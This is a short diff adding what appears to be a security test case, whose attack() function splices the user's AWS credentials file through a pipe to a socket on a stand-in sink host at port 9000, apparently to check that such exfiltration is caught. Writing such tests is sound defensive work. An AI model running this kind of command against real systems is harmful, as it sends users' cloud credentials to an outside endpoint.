@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="splice from the secret through a pipe to the socket"
+attack() { "$PROVOKE/splice" plain "$HOME/.aws/credentials" "$SINK4" 9000; }
